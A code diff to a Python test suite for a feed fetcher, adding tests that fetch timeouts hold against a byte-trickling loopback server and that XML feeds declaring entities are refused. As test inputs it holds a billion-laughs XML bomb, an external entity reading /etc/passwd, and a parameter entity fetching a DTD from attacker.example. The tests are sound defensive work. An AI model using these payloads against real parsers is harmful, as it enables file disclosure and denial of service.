@@ -5,6 +5,7 @@ test touches the network beyond loopback. Resolution is faked where a test needs
 name that would resolve elsewhere.
 """
 import gzip
+import socket
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -153,6 +154,101 @@ def test_a_slow_server_times_out(server):
     assert time.monotonic() - started < 1.9
 
 
+class TricklingServer:
+    """A loopback HTTP server (a sample) that sends its responses one byte every 0.2 s.
+
+    /headers trickles the whole response; /body and /body-no-length send the headers at
+    once and trickle the body (with and without a Content-Length); /redirect sends a
+    redirect to /body at once. With `tls`, it answers any connection with the start of a
+    TLS handshake that never ends. One connection at a time, on one thread, which `close`
+    stops within a trickle step.
+    """
+
+    STEP = 0.2
+    BODY = b"<p>" + b"x" * 40 + b"</p>"
+
+    def __init__(self, tls=False):
+        self.tls = tls
+        self.stopping = threading.Event()
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.listener.settimeout(self.STEP)
+        self.url = f"{'https' if tls else 'http'}://127.0.0.1:{self.listener.getsockname()[1]}"
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.stopping.set()
+        self.thread.join(timeout=5)
+        self.listener.close()
+        assert not self.thread.is_alive()
+
+    def _serve(self):
+        while not self.stopping.is_set():
+            try:
+                conn, _ = self.listener.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                try:
+                    self._answer(conn)
+                except OSError:  # the client gave up and closed the connection
+                    pass
+
+    def _answer(self, conn):
+        if self.tls:  # a handshake record of 80 bytes, sent a byte at a time
+            return self._trickle(conn, b"\x16\x03\x03\x00\x50" + bytes(80), 0)
+        conn.settimeout(5)
+        request = b""
+        while b"\r\n\r\n" not in request:
+            data = conn.recv(4096)
+            if not data:
+                return
+            request += data
+        path = request.split(b" ")[1].decode()
+        if path == "/redirect":
+            return conn.sendall(b"HTTP/1.1 302 Found\r\nLocation: /body\r\nContent-Length: 0\r\n\r\n")
+        length = f"Content-Length: {len(self.BODY)}\r\n" if path != "/body-no-length" else "Connection: close\r\n"
+        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{length}\r\n".encode()
+        self._trickle(conn, head + self.BODY, 0 if path == "/headers" else len(head))
+
+    def _trickle(self, conn, response, at_once):
+        """Send the first `at_once` bytes of `response`, then the rest a byte at a time."""
+        conn.sendall(response[:at_once])
+        for i in range(at_once, len(response)):
+            if self.stopping.wait(self.STEP):
+                return
+            conn.sendall(response[i:i + 1])
+
+
+@pytest.fixture
+def trickling():
+    server = TricklingServer()
+    yield server.url
+    server.close()
+
+
+@pytest.mark.parametrize("path", ["/headers", "/body", "/body-no-length", "/redirect"])
+def test_a_trickling_server_cannot_stretch_the_deadline(trickling, path):
+    # Every byte arrives well within the timeout, so only the clock can end these fetches.
+    started = time.monotonic()
+    with pytest.raises(InputError) as err:
+        fetch_url(f"{trickling}{path}", allow_private=True, timeout=1.0)
+    elapsed = time.monotonic() - started
+    assert str(err.value) == f"{trickling}{path}: timed out after 1 s"
+    assert 1.0 <= elapsed < 2.0, elapsed
+
+
+def test_a_trickled_tls_handshake_cannot_stretch_the_deadline():
+    server = TricklingServer(tls=True)
+    try:
+        started = time.monotonic()
+        with pytest.raises(InputError, match="timed out after 1 s"):
+            fetch_url(f"{server.url}/", allow_private=True, timeout=1.0)
+        assert time.monotonic() - started < 2.0
+    finally:
+        server.close()
+
+
 @pytest.mark.parametrize("path, needle", [
     ("/report.pdf", "unsupported content type 'application/pdf'"),
     ("/missing", "HTTP 404"),
@@ -213,18 +309,72 @@ def test_feed_entries_give_their_article_urls_in_order():
     ]
 
 
-def test_a_broken_or_hostile_feed_gives_what_it_can():
-    assert feed_entry_urls(b"not xml at all") == []
-    hostile = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-               b"<rss><channel><item><link>&x;</link></item>"
-               b"<item><link>https://gazette.example/ok</link></item></channel></rss>")
-    assert feed_entry_urls(hostile) == ["https://gazette.example/ok"]
+# A "billion laughs" XML bomb (a sample): ten levels of ten copies, a few hundred bytes
+# that would expand to a billion "lol"s, before one good item.
+BILLION_LAUGHS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n'
+    + b"".join(b'<!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
+    + b']>\n<rss version="2.0"><channel><title>&lol9;</title>'
+    b"<item><link>https://gazette.example/ok</link></item></channel></rss>"
+)
+ONE_ITEM = b"<rss><channel><item><link>https://gazette.example/ok</link></item></channel></rss>"
+
+
+def test_a_feed_bomb_is_refused_at_once_naming_the_feed():
+    started = time.monotonic()
+    with pytest.raises(InputError) as err:
+        feed_entry_urls(BILLION_LAUGHS, name="https://gazette.example/feed.xml")
+    assert time.monotonic() - started < 1.0
+    assert str(err.value) == ("https://gazette.example/feed.xml: not a readable feed (it declares the XML "
+                              "entity 'lol0', and feeds with entity declarations are refused)")
+
+
+@pytest.mark.parametrize("prolog", [
+    b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',  # an external entity
+    b'<!DOCTYPE rss [<!ENTITY unused "never referred to">]>',  # declared, never used: refused all the same
+    b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]>',  # a parameter entity
+])
+def test_any_entity_declaration_is_refused(prolog):
+    with pytest.raises(InputError, match="^feed.xml: not a readable feed .it declares the XML entity"):
+        feed_entry_urls(b'<?xml version="1.0"?>' + prolog + ONE_ITEM, name="feed.xml")
+
+
+def test_an_entity_declaration_cannot_hide_behind_an_encoding():
+    with pytest.raises(InputError, match="declares the XML entity 'lol0'"):
+        feed_entry_urls(BILLION_LAUGHS.decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"')
+                        .encode("utf-16"), name="feed.xml")
+
+
+def test_a_doctype_without_entities_is_read():
+    netscape = (b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
+                b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
+    internal = b"<!DOCTYPE rss [<!ELEMENT rss ANY>]>"
+    for prolog in (netscape, internal):
+        assert feed_entry_urls(b'<?xml version="1.0"?>' + prolog + ONE_ITEM) == ["https://gazette.example/ok"]
+
+
+@pytest.mark.parametrize("data, reason", [
+    (b"not xml at all", "syntax error"),
+    (b"", "no element found"),
+    (b'<?xml version="1.0"?><rss><chan', "unclosed token"),
+])
+def test_an_unreadable_feed_is_an_error_naming_it(data, reason):
+    with pytest.raises(InputError) as err:
+        feed_entry_urls(data, name="https://gazette.example/feed.xml")
+    assert str(err.value) == f"https://gazette.example/feed.xml: not a readable feed ({reason})"
+
+
+def test_a_feed_broken_after_its_items_gives_them():
+    broken = b"<rss><channel><item><title>Tom & Jerry</title><link>https://gazette.example/ok</link></item><item><li"
+    assert feed_entry_urls(broken) == ["https://gazette.example/ok"]
+    assert feed_entry_urls(b"<rss><channel><title>Quiet week</title></channel></rss>") == []  # well-formed, empty
 
 
 def test_feed_parsing_reads_only_the_bytes_it_is_given():
-    # the body of a page that names a local feed file: its text, not the file, is parsed
-    assert feed_entry_urls(str(FIXTURES / "sample-feed.rss").encode()) == []
-    assert feed_entry_urls(b"https://gazette.example/feed.xml") == []
+    # the body of a page that names a local feed file: its text is parsed (and is no feed), not the file
+    for body in (str(FIXTURES / "sample-feed.rss").encode(), b"https://gazette.example/feed.xml"):
+        with pytest.raises(InputError, match=r"^feed: not a readable feed \("):
+            feed_entry_urls(body)
 
 
 def test_rdf_feed_items_give_their_links():
